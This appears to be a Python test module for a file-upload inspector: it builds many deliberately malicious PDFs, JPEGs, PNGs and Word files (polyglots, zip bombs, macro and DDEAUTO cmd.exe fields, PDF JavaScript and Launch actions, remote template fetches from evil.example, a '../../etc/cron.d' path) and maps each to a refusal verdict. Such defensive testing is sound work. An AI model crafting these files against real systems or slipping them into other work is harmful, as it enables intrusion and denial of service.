"""What nobody should get in: each file made by code, with the verdict by which it is refused.

BAD maps a name, which says its kind by its ending, to a function that makes the file and the word of
inspection_verdicts.VERDICTS.
"""

import io
import struct
import zipfile
import zlib

import pikepdf

from tests.portfolios.corpus import noise, of_pdf, photograph, rels, saved, word_of, zipped
from tests.portfolios.makers import WORD_RELS, WORD_TEXT, WORD_TYPES, pdf_file, picture, word_file

HTML = b"<html><script>alert(document.domain)</script></html>"


def _with(**annotation):
    def change(document):
        made = pikepdf.Dictionary(Rect=pikepdf.Array([0, 0, 9, 9]), **annotation)
        document.pages[0].obj.Annots = pikepdf.Array([made])

    return change


def _carrying(document):
    document.attachments["payload.exe"] = b"MZ"


def _portfolio(document):
    document.Root.Collection = pikepdf.Dictionary(View=pikepdf.Name.D)


def _loose(document):
    held = document.make_stream(b"MZ payload", Type=pikepdf.Name("/EmbeddedFile"))
    document.Root.Kept = pikepdf.Array([held])


def huge_png(width=20_000, height=20_000):
    """A PNG of a few hundred kilobytes that says, and means, so many pixels."""
    rows = zlib.compressobj(9)
    row = bytes(1 + width)
    squeezed = b"".join(rows.compress(row) for _ in range(height)) + rows.flush()
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", squeezed) + _chunk(b"IEND", b"")


def _chunk(name, held):
    return struct.pack(">I", len(held)) + name + held + struct.pack(">I", zlib.crc32(name + held))


def huge_jpeg():
    """A JPEG that says it is 20,000 pixels square."""
    content = bytearray(picture("JPEG"))
    at = content.index(b"\xff\xc0") + 5
    content[at : at + 4] = struct.pack(">HH", 20_000, 20_000)
    return bytes(content)


def swelling_word():
    """A document whose list of parts says that it unpacks to 400 megabytes."""
    content = bytearray(word_file(text=bytes(1 << 20)))
    place = content.rindex(b"PK\x01\x02")
    content[place + 24 : place + 28] = struct.pack("<I", 400 << 20)
    return bytes(content)


def overlapping_word():
    """Ten parts that share one part's bytes, as in a bomb of thousands."""
    content = word_file(extra=[("word/media/image0.bmp", bytes(1 << 20))])
    end = content.rindex(b"PK\x05\x06")
    (size, start) = struct.unpack_from("<II", content, end + 12)
    directory = content[start : start + size]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    more = b"".join(last.replace(b"image0.bmp", b"image%d.bmp" % number) for number in range(1, 10))
    count = struct.unpack_from("<H", content, end + 8)[0] + more.count(b"PK\x01\x02")
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, size + len(more), start, 0)
    return content[:start] + directory + more + tail


def lying_word():
    """A document whose list of parts says that forty megabytes are a thousand bytes."""
    content = bytearray(word_file(text=bytes(40 << 20)))
    place = content.rindex(b"PK\x01\x02")
    content[place + 24 : place + 28] = struct.pack("<I", 1000)
    return bytes(content)


def gap_word():
    """A document with a PDF between its parts and their list."""
    content = word_file()
    end = content.rindex(b"PK\x05\x06")
    (start,) = struct.unpack_from("<I", content, end + 16)
    inside = pdf_file("Another")
    moved = content[end : end + 16] + struct.pack("<I", start + len(inside)) + content[end + 20 :]
    return content[:start] + inside + content[start:end] + moved


def begun_twice():
    """A JPEG with another's first marker inside, which decoders skip: what follows would pass for a part."""
    content = photograph()
    return content[:2] + b"\xff\xd8" + struct.pack(">H", 20_000) + content[2:]


def two_offices():
    """What one office suite opens as a document of its own, and another as Word's."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        for name, content in (("[Content_Types].xml", WORD_TYPES), ("_rels/.rels", WORD_RELS)):
            archive.writestr(name, content)
        archive.writestr("word/document.xml", WORD_TEXT)
    return made.getvalue()


def shouting_comment(content, comment):
    """A ZIP with a comment."""
    made = io.BytesIO(content)
    with zipfile.ZipFile(made, "a") as archive:
        archive.comment = comment
    return made.getvalue()


def picture_hiding(held):
    """A JPEG with a comment at its start."""
    return saved(noise((20, 20)), "JPEG", comment=held)


BAD = {
    "jpeg.pdf": (lambda: picture("JPEG"), "broken"),
    "words.docx": (lambda: zipped(("words.txt", b"words")), "broken"),
    "sheet.docx": (lambda: word_file(text=None, extra=[("xl/workbook.xml", b"<x/>")]), "broken"),
    "two offices.docx": (two_offices, "broken"),
    "no top.docx": (lambda: word_file(rels=None), "broken"),
    "jar behind.pdf": (lambda: pdf_file() + zipped(("A.class", b"\xca\xfe\xba\xbe")), "two-kinds"),
    "jar inside.pdf": (
        lambda: pdf_file() + shouting_comment(zipped(("A.class", b"x")), b"\n%%EOF\n"),
        "two-kinds",
    ),
    "page behind.pdf": (lambda: pdf_file() + HTML, "two-kinds"),
    "program behind.pdf": (lambda: pdf_file() + b"MZ\x90\x00" + bytes(99), "two-kinds"),
    "jar behind.jpg": (lambda: picture("JPEG") + zipped(("A.class", b"x")), "two-kinds"),
    "pdf behind.jpg": (lambda: picture("JPEG") + pdf_file(), "two-kinds"),
    "pdf inside.jpg": (lambda: picture_hiding(pdf_file()[:400]), "two-kinds"),
    "jar inside.jpg": (lambda: picture_hiding(zipped(("A.class", b"x"))), "two-kinds"),
    "page behind.jpg": (lambda: picture("JPEG") + HTML, "two-kinds"),
    "program behind.jpg": (lambda: picture("JPEG") + b"\x7fELF" + bytes(99), "two-kinds"),
    "jar behind.png": (lambda: picture() + zipped(("A.class", b"x")), "two-kinds"),
    "pdf behind.png": (lambda: picture() + pdf_file(), "two-kinds"),
    "page behind.png": (lambda: picture() + HTML, "two-kinds"),
    "picture behind.png": (lambda: picture() + b"GIF89a" + bytes(9), "two-kinds"),
    "pdf in it.docx": (gap_word, "two-kinds"),
    "pdf before.docx": (
        lambda: zipped(("a.pdf", pdf_file()), ("[Content_Types].xml", WORD_TYPES), stored=True),
        "two-kinds",
    ),
    "pdf after.docx": (lambda: word_file() + pdf_file(), "two-kinds"),
    "comment.docx": (lambda: shouting_comment(word_file(), HTML), "two-kinds"),
    "two archives.docx": (lambda: zipped(("A.class", b"x")) + word_file(), "two-kinds"),
    "password.pdf": (lambda: pdf_file(encryption=pikepdf.Encryption(owner="o", user="u")), "protected"),
    "no printing.pdf": (lambda: pdf_file(encryption=pikepdf.Encryption(owner="o", user="")), "protected"),
    "script.pdf": (lambda: of_pdf(lambda pdf: setattr(pdf.Root, "OpenAction", _script())), "active"),
    "launch.pdf": (lambda: of_pdf(_with(Subtype=pikepdf.Name.Link, A=_starts("Launch"))), "active"),
    "other file.pdf": (lambda: of_pdf(_with(Subtype=pikepdf.Name.Link, A=_starts("GoToE"))), "active"),
    "film.pdf": (lambda: of_pdf(_with(Subtype=pikepdf.Name.Screen)), "active"),
    "clip.pdf": (lambda: of_pdf(_with(Subtype=pikepdf.Name.FileAttachment)), "active"),
    "carrying.pdf": (lambda: of_pdf(_carrying), "active"),
    "portfolio.pdf": (lambda: of_pdf(_portfolio), "active"),
    "loose file.pdf": (lambda: of_pdf(_loose), "active"),
    "form.pdf": (
        lambda: of_pdf(
            lambda pdf: setattr(pdf.Root, "AcroForm", pikepdf.Dictionary(XFA=pikepdf.String("<x/>")))
        ),
        "active",
    ),
    "macros.docx": (
        lambda: word_file(types=WORD_TYPES.replace(b"document.main", b"document.macroEnabled.main")),
        "macros",
    ),
    "macros inside.docx": (lambda: word_file(extra=[("word/vbaProject.bin", b"x")]), "macros"),
    "ole.docx": (
        lambda: word_file(extra=[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")]),
        "active",
    ),
    "sheet inside.docx": (
        lambda: word_file(extra=[("word/embeddings/Book.xlsx", zipped(("a", b"")))]),
        "active",
    ),
    "program inside.docx": (lambda: word_file(extra=[("word/media/image1.png", b"MZ\x90\x00")]), "active"),
    "archive inside.docx": (lambda: word_file(extra=[("word/media/i.png", zipped(("a", b"b")))]), "active"),
    "control.docx": (lambda: word_file(extra=[("word/activeX/activeX1.xml", b"<x/>")]), "active"),
    "fetched template.docx": (lambda: _fetching("attachedTemplate", "https://evil.example/t.dotm"), "active"),
    "fetched share.docx": (lambda: _fetching("attachedTemplate", "\\\\evil.example\\t.dotm"), "active"),
    "fetched picture.docx": (lambda: _fetching("image", "http://evil.example/seen.png"), "active"),
    "dde.docx": (
        lambda: word_of(
            b"<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe</w:instrText>"
            b"</w:r></w:p>"
        ),
        "active",
    ),
    "dde simple.docx": (lambda: word_of(b'<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>'), "active"),
    "swelling.docx": (swelling_word, "too-big"),
    "overlapping.docx": (overlapping_word, "too-big"),
    "lying.docx": (lying_word, "broken"),
    "many parts.docx": (
        lambda: word_file(extra=[(f"word/{number}", b"") for number in range(5001)]),
        "too-big",
    ),
    "way out.docx": (lambda: word_file(extra=[("../../etc/cron.d/x", b"x")]), "broken"),
    "twice.docx": (lambda: word_file(extra=[("word/Document.xml", WORD_TEXT)]), "broken"),
    "laughs.docx": (
        lambda: word_file(extra=[("word/styles.xml", b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>')]),
        "broken",
    ),
    "huge.png": (huge_png, "too-big"),
    "huge.jpg": (huge_jpeg, "too-big"),
    "begun twice.jpg": (begun_twice, "broken"),
    "cut short.pdf": (lambda: b"%PDF-1.7\n1 0 obj", "broken"),
    "cut short.png": (lambda: picture()[:-20], "broken"),
    "cut short.jpg": (lambda: picture("JPEG", (300, 300))[:600], "broken"),
    "cut short.docx": (lambda: word_file()[:-30], "broken"),
}


def _script():
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def _starts(what):
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{what}"), F=pikepdf.String("cmd.exe"))


def _fetching(kind, target):
    return word_file(extra=[("word/_rels/settings.xml.rels", rels((kind, target)))])
